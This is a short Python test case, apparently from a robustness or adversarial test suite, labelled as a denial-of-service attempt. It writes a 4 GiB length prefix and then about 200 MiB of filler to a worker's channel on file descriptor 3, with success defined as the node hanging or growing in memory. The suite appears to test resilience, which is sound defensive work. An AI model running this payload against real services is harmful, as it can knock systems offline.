# family: frames-of-ours
# kind: dos
# tries: raw bytes on the worker's channel: a length of 4 GiB, then bytes for as long as they are taken
# success looks like: the node stops answering, or grows
def job(plugin):
  @LIBC@
  os.write(3, b'\xff\xff\xff\xff')
  sent = 0
  while sent < 200 << 20:
    sent = sent + os.write(3, b'x' * 1048576)
  return sent
